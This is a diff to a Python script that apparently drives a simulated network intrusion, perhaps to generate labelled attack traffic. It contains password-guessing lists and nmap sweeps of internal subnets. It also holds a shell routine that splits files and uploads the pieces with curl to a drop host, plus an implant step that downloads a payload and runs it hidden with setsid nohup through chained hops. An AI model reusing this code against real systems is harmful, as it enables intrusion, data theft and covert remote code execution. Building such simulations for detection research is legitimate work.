@@ -20,7 +20,7 @@ GUESSED_AT = ("10.20.0.23", "10.20.0.27", "10.20.0.35")
 LOGINS = ("admin", "mcosta", "tmeyer")
 PASSWORDS = ("Welcome1", "agency2026", "Spring2026", "Summer2026", "Launch2026")
 SMB_PASSWORDS = ("Mission2026", "Apollo2026!", "Welcome1", "Orbit2026!")
-PIECE = 48 * 1024
+PIECE = 40 * 1024
 
 STEAL = r"""
 trap '' HUP
@@ -32,7 +32,7 @@ pull() {
 leave() {
 	split -b @PIECE@ -d "$1" "../out/$1."
 	for piece in ../out/"$1".*; do
-		ip=$(rec 'look-up of @DROP_NAME@' udp 61054 10.50.0.53:53 dig +short +tries=1 +time=2 -b '0.0.0.0#61054' @DROP_NAME@ | tail -n 1)
+		ip=$(rec 'look-up of @DROP_NAME@' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' @DROP_NAME@ | tail -n 1)
 		rec 'theft https' tcp - @DROP@:443 curl -sk -m 30 --resolve "@DROP_NAME@:443:$ip" -T "$piece" \
 			"https://@DROP_NAME@/v/${piece##*/}"
 		sleep "$(awk -v r=$RANDOM 'BEGIN { print @GAP@ * (0.7 + 0.6 * r / 32768) }')"
@@ -76,9 +76,9 @@ def operate(agent, book):
     shell.run("id; uname -s; ip -br addr; ip route")
 
     book.at(28)
-    for n, (prefix, ports) in enumerate((("10.20.0.0/26", "22,443,445"), ("10.30.0.0/27", "22,445,5432"),
+    for n, (prefix, ports) in enumerate((("10.20.0.0/26", "22,445"), ("10.30.0.0/27", "22,445"),
                                          ("10.50.0.0/26", "22,445"))):
-        shell.run("rec 'nmap from vpn' tcp - %s:%s nmap -sT -Pn -n -T4 --max-retries 1 -p %s -oG /mnt/truth/inside-%d.gnmap %s | grep -c open"
+        shell.run("rec 'nmap from vpn' tcp - %s:%s nmap -sT -Pn -n -T4 --max-retries 0 -p %s -oG /mnt/truth/inside-%d.gnmap %s | grep -c open"
                   % (prefix, ports.replace(",", "+"), ports, n, prefix))
 
     book.at(85)
@@ -93,7 +93,7 @@ def operate(agent, book):
     login, password = login.strip(), password.strip()
 
     book.at(125)
-    implant = ("cd /tmp; ip=$(rec 'look-up of {n}' udp 61053 10.50.0.53:53 dig +short -b '0.0.0.0#61053' {n} | tail -n 1)\n"
+    implant = ("cd /tmp; ip=$(rec 'look-up of {n}' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' {n} | tail -n 1)\n"
                "rec 'implant download' tcp - {a}:443 curl -sk --resolve {n}:443:$ip -o .u https://{n}/app\n"
                "setsid nohup bash .u %s >/dev/null 2>&1 </dev/null &\n").format(n=NAME, a=ADDRESS)
     since = time.time()
@@ -126,7 +126,7 @@ def operate(agent, book):
     for pair in (names[:2], names[2:4], names[4:]):
         steps += "pull '%s'\nsleep %d\n" % ("; ".join("get " + n for n in pair), 4 * scale)
         steps += "".join("leave %s\n" % n for n in pair)
-    work = script(steps, SOURCE=SOURCE, SECRET=secret, PIECE=PIECE, DROP=DROP, DROP_NAME=DROP_NAME, GAP=9.5 * scale,
+    work = script(steps, SOURCE=SOURCE, SECRET=secret, PIECE=PIECE, DROP=DROP, DROP_NAME=DROP_NAME, GAP=9.0 * scale,
                   TUNNEL_NAME=TUNNEL_NAME, TUNNEL_PORT="tunnel", TUNNEL_TIME=int(120 * scale))
     start = "cat >/tmp/.s <<'END'\n%s\nEND\nsetsid nohup bash /tmp/.s >/dev/null 2>&1 </dev/null &\n" % work
     shell.run(hop(FIRST, login, hop(STAGE, login, start, password), password))
